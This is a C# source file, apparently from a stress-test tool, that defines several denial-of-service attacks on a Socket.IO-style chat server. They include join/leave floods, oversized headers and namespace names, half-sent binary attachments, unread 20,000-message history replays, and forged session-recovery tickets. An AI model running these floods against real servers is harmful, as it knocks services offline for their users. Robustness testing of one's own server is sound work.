using Attacks.Wire;

namespace Attacks.Attacks;

/// <summary>One connection joins and leaves in a loop, without waiting for answers.</summary>
internal sealed class JoinLoop : IAttack
{
    public string Name => "joins";

    public string What => "one connection sends 40 and 41 in turn, and reads what comes";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop) => Repeat.Async(
        1,
        async (_, stop) =>
        {
            using var client = await AttackClient.OpenAsync(ports[0], stop);
            var reading = client.DrainAsync(stop);
            while (client.IsOpen)
            {
                await client.SendAsync("40", stop);
                await client.SendAsync("41", stop);
            }
            await reading;
        },
        stop);
}

/// <summary>Connections with large headers that join and vanish.</summary>
internal sealed class LargeHeaders : IAttack
{
    public string Name => "headers";

    public string What => "16 at a time connect with a header of 13 KB and vanish";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop)
    {
        var value = new string('x', 13 * 1024);
        return Repeat.Async(
            16,
            async (number, stop) =>
            {
                using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop, ("X-Large", value));
            },
            stop);
    }
}

/// <summary>Connections that leave most of a large packet and go.</summary>
internal sealed class HalfPackets : IAttack
{
    private const int Attachments = 10;

    public string Name => "halves";

    public string What => "4 at a time send 9 of 10 announced attachments of 900 KB and vanish";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop)
    {
        var placeholders = string.Join(',', Enumerable.Range(0, Attachments).Select(i => $$"""{"_placeholder":true,"num":{{i}}}"""));
        var attachment = new byte[900_000];
        return Repeat.Async(
            4,
            async (number, stop) =>
            {
                using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
                await client.SendAsync("40", stop);
                await client.ReadAsync(stop);
                await client.SendAsync($"45{Attachments}-[\"e\",{placeholders}]", stop);
                for (var i = 1; i < Attachments; i++)
                {
                    await client.SendAsync(attachment, stop);
                }
            },
            stop);
    }
}

/// <summary>Clients that want the whole history, read nothing, and vanish.</summary>
internal sealed class DeafReaders : IAttack
{
    public string Name => "replays";

    public string What => "200 at a time ask for a history of 20,000, do not read it, and vanish after a second";

    public int Messages => 20_000;

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop) => Repeat.Async(
        200,
        async (number, stop) =>
        {
            using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
            await client.SendAsync("40{\"serverOffset\":0}", stop);
            await Task.Delay(TimeSpan.FromSeconds(1), stop);
        },
        stop);
}

/// <summary>Clients that want the whole history at once, and read it.</summary>
internal sealed class Readers : IAttack
{
    public string Name => "readers";

    public string What => "100 at a time ask for a history of 20,000, read for 2 seconds, and leave";

    public int Messages => 20_000;

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop) => Repeat.Async(
        100,
        async (number, stop) =>
        {
            using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
            await client.SendAsync("40{\"serverOffset\":0}", stop);
            using var enough = CancellationTokenSource.CreateLinkedTokenSource(stop);
            enough.CancelAfter(TimeSpan.FromSeconds(2));
            await client.DrainAsync(enough.Token);
        },
        stop);
}

/// <summary>Clients that get the beginning of the history and leave, in a loop.</summary>
internal sealed class ComersAndGoers : IAttack
{
    public string Name => "visits";

    public string What => "20 at a time ask for a history of 20,000, read one message and leave";

    public int Messages => 20_000;

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop) => Repeat.Async(
        20,
        async (number, stop) =>
        {
            using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
            await client.SendAsync("40{\"serverOffset\":0}", stop);
            while (await client.ReadAsync(stop) is { } message && !message.StartsWith("42[\"chat message\"", StringComparison.Ordinal))
            {
            }
        },
        stop);
}

/// <summary>Names of namespaces as long as a packet may be.</summary>
internal sealed class LongNames : IAttack
{
    public string Name => "names";

    public string What => "one connection asks for namespaces with names of 400 KB";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop)
    {
        var count = 0;
        return Repeat.Async(
            1,
            async (_, stop) =>
            {
                using var client = await AttackClient.OpenAsync(ports[0], stop);
                var reading = client.DrainAsync(stop);
                while (client.IsOpen)
                {
                    await client.SendAsync($"40/{count++}{new string('n', 400_000)},", stop);
                }
                await reading;
            },
            stop);
    }
}

/// <summary>Sessions that there are not, shown again and again.</summary>
internal sealed class WrongTickets : IAttack
{
    public string Name => "tickets";

    public string What => "8 connections show a session that there is not, join, leave, and show another";

    public Task<long> RunAsync(IReadOnlyList<int> ports, CancellationToken stop) => Repeat.Async(
        8,
        async (number, stop) =>
        {
            using var client = await AttackClient.OpenAsync(ports[number % ports.Count], stop);
            await client.SendAsync($$"""40{"pid":"{{Guid.NewGuid()}}","offset":"0.1"}""", stop);
            await client.ReadAsync(stop);
        },
        stop);
}
